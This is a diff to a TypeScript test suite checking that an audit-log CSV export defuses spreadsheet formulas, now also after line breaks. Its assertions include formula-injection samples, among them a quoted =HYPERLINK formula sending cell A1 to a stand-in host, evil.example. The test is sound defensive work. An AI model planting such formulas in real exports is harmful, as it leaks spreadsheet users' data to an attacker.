@@ -15,7 +15,7 @@
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { MAX_BODY_BYTES } from '../../src/http/app.ts';
-import { CSV_CONTENT_TYPE, startsLikeFormula } from '../../src/http/csv.ts';
+import { CSV_CONTENT_TYPE, defuseFormulas, startsLikeFormula } from '../../src/http/csv.ts';
 import { HttpProblem } from '../../src/http/errors.ts';
 import { AUDIT_CSV_HEADER, auditEntriesForExport } from '../../src/http/routes/reports.ts';
 import { allEvents, allocate, expectProblem, expectWritten, scenarioCtx, type Json } from '../api/helpers.ts';
@@ -526,9 +526,10 @@ describe('dangerous but allowed text: stored exactly as given, exported defused'
       expected.forEach((value, c) => {
         tally.csvCellsChecked += 1;
         const cell = row[c]!;
-        const want = value === undefined ? '' : startsLikeFormula(value) ? `'${value}` : value;
+        // The exact rule (first character, and after a separator) is modelled in csv.test.ts.
+        const want = value === undefined ? '' : defuseFormulas(value);
         if (cell !== want) mismatches.push(`row ${i + 1} ${AUDIT_CSV_HEADER[c]}: ${JSON.stringify(cell)}, expected ${JSON.stringify(want)}`);
-        if (value !== undefined && startsLikeFormula(value)) tally.csvCellsDefused += 1;
+        if (value !== undefined && want !== value) tally.csvCellsDefused += 1;
         if (startsLikeFormula(cell)) mismatches.push(`row ${i + 1} ${AUDIT_CSV_HEADER[c]} still starts like a formula: ${JSON.stringify(cell)}`);
       });
     });
@@ -538,7 +539,7 @@ describe('dangerous but allowed text: stored exactly as given, exported defused'
     const column = (name: (typeof AUDIT_CSV_HEADER)[number]) => rows.map((row) => row[AUDIT_CSV_HEADER.indexOf(name)]!);
     expect(column('reason')).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`);
     expect(column('reason')).toContain("'\t=1+1 after a tab");
-    expect(column('reason')).toContain("'\r\n-leading line break");
+    expect(column('reason')).toContain("'\r\n'-leading line break"); // the start, and the - after the line break
     expect(column('actorSub')).toContain(`'${FORMULA_SUBS[0]}`);
     expect(column('summary').some((s) => s.startsWith("'@evil (finance officer"))).toBe(true);
     expect(column('reason')).toContain("'already quoted");
